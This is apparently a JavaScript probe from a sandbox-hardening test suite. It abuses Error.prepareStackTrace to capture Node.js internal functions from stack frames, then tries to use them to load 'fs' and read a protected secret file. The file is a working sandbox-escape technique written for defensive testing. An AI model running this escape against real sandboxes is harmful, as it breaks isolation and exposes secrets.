// Tries: Error.prepareStackTrace, to get at the functions and receivers of the runtime's own frames below the program's.
// Escape: a function or a `this` of the built-in modules, by which their `require` and `binding` are had.
const seen = [];
Error.prepareStackTrace = (error, sites) => {
  for (const site of sites) {
    for (const name of ['getFunction', 'getThis']) {
      const value = site[name]?.();
      if (typeof value === 'function' && /binding\(/.test(Function.prototype.toString.call(value)))
        seen.push(value);
      if (value && value !== globalThis && typeof value.binding === 'function') seen.push(value);
    }
  }
  return 'stack';
};
attempt('an error from deep inside', () => {
  [3, 2, 1].sort(() => void new Error('x').stack);
  try {
    require('/nowhere');
  } catch (error) {
    void error.stack;
  }
  try {
    Buffer.alloc(-1);
  } catch (error) {
    void error.stack;
  }
  queueMicrotask(() => void new Error('y').stack);
  const { EventEmitter } = require('node:events');
  new EventEmitter().on('a', () => void new Error('z').stack).emit('a');
});
for (const f of seen)
  probe('a function of the runtime', () => f.call(undefined, 'fs').readFileSync?.(target.secret, 'utf8'));
Error.prepareStackTrace = undefined;
